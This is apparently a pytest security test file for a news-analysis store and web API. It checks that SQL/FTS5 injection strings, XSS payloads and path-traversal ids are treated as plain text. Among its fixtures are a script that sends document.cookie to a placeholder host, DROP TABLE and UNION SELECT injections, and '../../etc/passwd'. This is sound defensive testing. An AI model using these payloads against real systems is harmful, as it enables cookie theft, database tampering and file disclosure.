"""Hostile strings are data: search strings with SQL or FTS5 syntax find the words they
contain and nothing else, filters are values never code, and articles carrying HTML or
JavaScript are stored and served back as text (store level and API level).
"""

from __future__ import annotations

import json

import pytest

from khabar.corpus.store import Store
from khabar.pipeline import analyze

pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402

from khabar.serve import Settings, create_app  # noqa: E402

# Each hostile query, with the articles that hold all of its words (punctuation dropped).
ALL = {"sample", "hostile", "literal"}
EXPECTED = {
    '" OR 1=1 --': {"literal"}, "NEAR(": {"literal"}, "*": set(), '"unbalanced': set(),
    "بوتين AND": {"literal"}, "بوتين OR بايدن": set(), "NOT بوتين": set(), "بوتين*": ALL,
    "title:بوتين": set(), "^بوتين": ALL, "بوتين NEAR(بايدن, 2)": set(),
    "'; DROP TABLE documents; --": set(), "\") OR rowid > 0 --": set(), "%": set(),
    "_": set(), "\\": set(), "{بوتين}": ALL, "(((": set(), "\x00": set(),
    "؛ DELETE FROM fts;": set(),
}
INJECTIONS = list(EXPECTED)
SCRIPT = '<script>fetch("http://x.invalid/?c=" + document.cookie)</script>'
HOSTILE = (f"قال الرئيس الروسي فلاديمير بوتين إن {SCRIPT} المحادثات مع بايدن كانت مفيدة.\n"
           "وأضاف أن <img src=x onerror=alert(1)> روسيا مستعدة للحوار.\n")
# An article whose text holds the query syntax itself, so searching for it as words has
# exactly one right answer.
LITERAL = "قال المتحدث إن الرقم OR 1=1 ظهر في الوثيقة NEAR الحدود ويقال بوتين AND غيره."


@pytest.fixture(scope="module")
def store_path(tmp_path_factory, example_text):
    path = tmp_path_factory.mktemp("inject") / "store.sqlite"
    with Store(path) as store:
        store.add(analyze(example_text, id="sample", date="2021-12-31", outlet="Outlet A"))
        store.add(analyze(HOSTILE, id="hostile", date="2021-12-30",
                          title='<svg onload=alert(1)> بوتين', outlet="<b>Evil</b>"))
        store.add(analyze(LITERAL, id="literal", date="2021-12-29", outlet="100% News"))
    return path


def counts(store: Store) -> dict[str, int]:
    tables = ("documents", "actors", "mentions", "statements", "events", "fts")
    return {t: store.conn.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0] for t in tables}


@pytest.mark.parametrize("query", INJECTIONS)
def test_search_syntax_is_text_at_the_store(store_path, query):
    with Store(store_path) as store:
        before = counts(store)
        hits = {h["id"] for h in store.search(query)}
        assert counts(store) == before
        assert store.integrity() == "ok"
    assert hits == EXPECTED[query]


def test_operators_are_words_to_find(store_path):
    with Store(store_path) as store:
        assert [h["id"] for h in store.search("بوتين AND")] == ["literal"]
        assert [h["id"] for h in store.search('" OR 1=1 --')] == ["literal"]
        assert [h["id"] for h in store.search("NEAR(")] == ["literal"]
        assert store.search("*") == []
        assert {h["id"] for h in store.search("بوتين")} == {"sample", "hostile", "literal"}


@pytest.mark.parametrize("field", ["actor", "country", "outlet", "type"])
@pytest.mark.parametrize("value", ["' OR 1=1 --", "%", "_", "\\", "x' UNION SELECT record FROM documents --"])
def test_filters_are_values_not_code(store_path, field, value):
    with Store(store_path) as store:
        before = counts(store)
        if field == "type":
            rows = store.events(**{field: value})
        else:
            rows = store.documents(**{field: value})
        assert counts(store) == before
    assert rows == [] or (field == "outlet" and value == "%"
                          and [r["id"] for r in rows] == ["literal"])


def test_markup_in_an_article_is_stored_as_text(store_path):
    with Store(store_path) as store:
        doc = store.get_document("hostile")
    assert doc.text == HOSTILE and SCRIPT in doc.text
    for sent in doc.sentences:
        assert doc.text[sent.start:sent.end] == sent.text
    assert any(a.id == "vladimir_putin" for a in doc.actors)


@pytest.fixture(scope="module")
def client(store_path):
    with TestClient(create_app(store_path, Settings(rate_limit=0))) as c:
        yield c


@pytest.mark.parametrize("query", INJECTIONS)
def test_search_syntax_is_text_at_the_api(client, query):
    if query == "\x00":
        pytest.skip("a NUL cannot travel in a URL query")
    response = client.get("/api/search", params={"q": query})
    if not query.strip():
        assert response.status_code == 422
        return
    assert response.status_code == 200, response.text
    assert {h["id"] for h in response.json()["items"]} == EXPECTED[query]
    assert client.get("/api/summary").json()["articles"] == 3


@pytest.mark.parametrize("path", ["/api/documents", "/api/events", "/api/actors",
                                  "/api/statements", "/api/stories", "/api/network"])
def test_api_filters_are_values_not_code(client, path):
    for value in ("' OR 1=1 --", "x' UNION SELECT record FROM documents --"):
        response = client.get(path, params={"actor": value, "outlet": value})
        assert response.status_code == 200, response.text
        body = response.json()
        assert body.get("items", body.get("nodes")) == []


def test_api_serves_markup_as_json_strings(client):
    response = client.get("/api/documents/hostile")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "script-src 'self'" in response.headers["content-security-policy"]
    record = json.loads(response.text)
    assert record["text"] == HOSTILE and record["title"].startswith("<svg")
    hits = client.get("/api/search", params={"q": "بوتين"}).json()["items"]
    assert any(h["id"] == "hostile" for h in hits)


def test_posted_markup_is_analysed_as_text(client):
    response = client.post("/api/analyze", json={"text": HOSTILE, "title": SCRIPT})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    record = response.json()
    assert record["text"] == HOSTILE and record["title"] == SCRIPT
    for sent in record["sentences"]:
        assert HOSTILE[sent["start"]:sent["end"]] == sent["text"]


@pytest.mark.parametrize("doc_id", ["<script>alert(1)</script>", "../../etc/passwd",
                                    "' OR '1'='1", "%00"])
def test_hostile_ids_are_not_found_and_echoed_as_json(client, doc_id):
    response = client.get(f"/api/documents/{doc_id}")
    assert response.status_code == 404
    assert response.headers["content-type"].startswith("application/json")
